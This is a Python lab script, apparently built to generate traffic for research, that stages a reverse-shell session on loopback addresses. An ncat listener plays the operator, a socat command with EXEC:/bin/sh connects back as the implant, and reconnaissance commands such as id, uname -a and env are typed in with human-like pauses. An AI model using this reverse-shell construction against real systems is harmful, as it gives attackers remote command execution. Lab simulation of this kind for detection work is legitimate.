"""One reverse-shell session: an implant connects out to the attacker, who types commands.

``python -m amlhp.lab.revshell`` plays both sides with real tools: ``ncat -l`` on the
attacker address is the operator's listener, ``socat`` on the compromised device's address
connects back to it with ``EXEC:/bin/sh`` (as user ``nobody``), and the operator's
commands are typed into ncat one by one with human pauses; their output comes back over
the same connection. The commands only read (``id``, ``uname -a``, ``ls``...).
"""

from __future__ import annotations

import argparse
import random
import subprocess
import sys
import time

from amlhp.lab.drivers import c2_parser, run_driver, stop
from amlhp.lab.safety import check_argv, loopback_address

COMMANDS = (
    "id", "uname -a", "pwd", "ls -la /", "ls -la /tmp", "cat /etc/os-release", "ps",
    "cat /proc/cpuinfo | head -20", "df -h", "echo $PATH", "cat /etc/hostname",
    "ls /dev | head -30", "env | sort | head -20", "cat /proc/meminfo | head -5", "whoami",
)  # fmt: skip


def run(args: argparse.Namespace) -> int:
    attacker = loopback_address(args.attacker)
    implant = loopback_address(args.implant)
    rng = random.Random(args.seed)
    listener_argv = ["ncat", "-l", "-n", str(attacker), str(args.port)]
    implant_argv = [
        "socat",
        f"TCP:{attacker}:{args.port},bind={implant},connect-timeout=5",
        "EXEC:/bin/sh,stderr,su=nobody",
    ]
    check_argv(listener_argv)
    check_argv(implant_argv)
    deadline = time.monotonic() + args.seconds
    listener = shell = None
    try:
        listener = subprocess.Popen(
            listener_argv, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=sys.stderr
        )
        time.sleep(0.5)
        shell = subprocess.Popen(implant_argv, stdout=sys.stdout, stderr=sys.stderr)
        assert listener.stdin is not None
        sent = 0
        while sent < args.commands and time.monotonic() < deadline:
            command = rng.choice(COMMANDS)
            for ch in command:  # an operator types: a few characters per packet
                listener.stdin.write(ch.encode())
                listener.stdin.flush()
                time.sleep(rng.uniform(0.01, 0.05) * args.pace)
            listener.stdin.write(b"\n")
            listener.stdin.flush()
            sent += 1
            time.sleep(rng.uniform(0.3, 1.5) * args.pace)
            if shell.poll() is not None:
                break
        listener.stdin.write(b"exit\n")
        listener.stdin.flush()
        time.sleep(0.3)
        print(f"typed {sent} commands")
        return 0 if sent else 1
    except BrokenPipeError:
        return 1
    finally:
        stop(shell)
        stop(listener)


def main(argv: list[str] | None = None) -> int:
    pace = ("--pace", 1.0, "scales the operator's pauses")
    return run_driver(
        c2_parser(__doc__, 30.0, "attacker", 4444, ("--commands", 10), pace), run, argv
    )


if __name__ == "__main__":
    sys.exit(main())
